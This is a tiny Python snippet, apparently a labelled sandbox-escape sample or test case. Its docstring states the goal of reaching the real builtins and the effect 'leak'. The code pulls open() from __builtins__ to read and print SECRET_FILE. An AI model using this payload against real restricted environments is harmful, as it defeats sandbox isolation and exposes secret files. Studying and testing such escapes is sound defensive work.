"""
goal: reach the real builtins through the name that every module has
effect: leak
"""

found = __builtins__
print((found["open"] if isinstance(found, dict) else found.open)(SECRET_FILE).read())
